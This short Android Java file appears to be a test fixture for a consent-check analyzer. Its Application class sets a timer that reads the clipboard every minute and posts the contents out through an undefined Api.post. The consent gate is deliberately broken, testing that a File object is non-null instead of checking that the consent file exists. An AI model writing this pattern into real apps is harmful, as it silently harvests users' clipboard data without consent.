package org.consentry.flow.consentgates.timerwithoutcheck;

import android.app.Application;
import android.content.ClipboardManager;
import java.io.File;
import java.util.Timer;
import java.util.TimerTask;

public class App extends Application {
    private ClipboardManager board;

    @Override
    public void onCreate() {
        super.onCreate();
        board = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        final File marker = new File(getFilesDir(), "privacy.ok");
        new Timer().schedule(new TimerTask() {
            @Override
            public void run() {
                boolean read = marker != null;
                if (read && board.hasPrimaryClip()) {
                    Api.post("clip", board.getPrimaryClip().toString());
                }
            }
        }, 1000, 60000);
    }
}
